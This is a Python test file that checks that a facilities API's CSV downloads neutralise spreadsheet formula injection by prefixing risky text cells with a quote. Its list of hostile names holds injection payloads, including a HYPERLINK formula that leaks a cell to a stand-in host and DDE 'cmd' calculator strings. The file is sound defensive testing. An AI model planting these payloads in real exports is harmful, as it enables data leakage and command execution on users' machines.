"""CSV downloads open in a spreadsheet as data, never as formulas (OWASP's CSV injection), with facility names
loaded through the real loader and built into the mart by real dbt; and a text cell can always be read back.

The expected cells are written out here: a text cell that begins with `=`, `+`, `-`, `@`, tab, CR, LF or `'`
gains one leading `'`; numbers, dates and booleans are left as they are; every text cell is quoted.
"""

from __future__ import annotations

import csv
import io

import pytest

from backend.app import create_app
from backend.auth import create_key
from backend.config import ApiSettings

# Names a sender (or an attacker who can write to the facilities export) may put in a file.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1;=2+2",
    "'Quoted Clinic",
]


def _csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.fixture
def loaded_facilities(settings, store):
    """A facilities drop with hostile names and ordinary ones, loaded by ingest_file and built by dbt."""
    from elt.pipeline import ingest_file
    from elt.transform import run_dbt

    lines = ["name,state,lga,lat,lon,type", "General Hospital Ikeja,Lagos,Ikeja,6.6018,3.3515,Hospital"]
    for number, name in enumerate(HOSTILE_NAMES):
        quoted = '"' + name.replace('"', '""') + '"'
        lines.append(f"{quoted},Kano,Tarauni {number},12.0022,8.5920,Clinic")
    key = "medical_records/input/facilities_2026-11-14.csv"
    store.put(key, ("\r\n".join(lines) + "\r\n").encode(), content_type="text/csv")
    assert ingest_file(key, settings=settings).status == "loaded"
    # The mart and what it is built from (models only: the other marts' relationship tests need their marts).
    run_dbt(["run", "--select", "+facility_performance"], settings=settings)
    return settings


def test_formula_names_loaded_through_the_loader_download_as_text(loaded_facilities, db):
    settings = loaded_facilities
    app = create_app(ApiSettings(database_url=settings.database_url, rate_limit=""))
    client = app.test_client()
    client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {create_key(settings.database_url, 'csv', 'analyst')}"

    # The mart holds the names exactly as sent; JSON serves them as they are.
    stored = {name for (name,) in db.execute("select facility_name from analytics.facility_performance")}
    assert set(HOSTILE_NAMES) <= stored
    served = {row["facility_name"] for row in client.get("/api/v1/facilities?limit=50").get_json()["data"]}
    assert set(HOSTILE_NAMES) <= served

    response = client.get("/api/v1/facilities?format=csv")
    rows = _csv_rows(response)
    names = {row["facility_name"] for row in rows}
    assert names == {"General Hospital Ikeja", *("'" + name for name in HOSTILE_NAMES)}
    for row in rows:  # no text cell starts a formula
        for column in ("facility_name", "state", "lga", "facility_type", "volume_band", "facility_id"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (column, row[column])
    # A reader restores every value by removing the one leading quote.
    assert {name[1:] if name.startswith("'") else name for name in names} == {"General Hospital Ikeja", *HOSTILE_NAMES}


def test_text_cells_are_neutralised_and_quoted_numbers_are_not(client, db, facilities_mart):
    """Values a loader would trim (leading tab, CR, LF) are neutralised too, and `-5` is a number only where the
    column is numeric."""
    db.execute(
        "insert into analytics.facility_performance (facility_id, facility_name, state, lga, facility_type, "
        "patient_count, medical_record_count, triage_visit_count, urgent_visit_count, avg_triage_level, active_days, "
        "volume_band, built_at) values "
        "('t1', E'\\tTabbed', 'Oyo', '-5', 'a,b', -5, 0, 0, 0, -1.50, 0, 'Low', now()), "
        "('t2', E'\\rCarriage', 'Oyo', E'\\nLine', 'He said \"hi\"', 0, 0, 0, 0, null, 0, 'Low', now())")
    response = client.get("/api/v1/facilities?format=csv&facility_id=t1")
    body = response.get_data(as_text=True)
    header, line = body.split("\r\n")[:2]
    assert header.startswith("facility_id,facility_name,state,lga,facility_type,patient_count,")
    assert line.startswith('"t1","\'\tTabbed","Oyo","\'-5","a,b",-5,0,0,0,-1.50,')
    rows = _csv_rows(client.get("/api/v1/facilities?format=csv&facility_id=t2"))
    assert (rows[0]["facility_name"], rows[0]["lga"], rows[0]["facility_type"], rows[0]["avg_triage_level"]) == (
        "'\rCarriage", "'\nLine", 'He said "hi"', "")
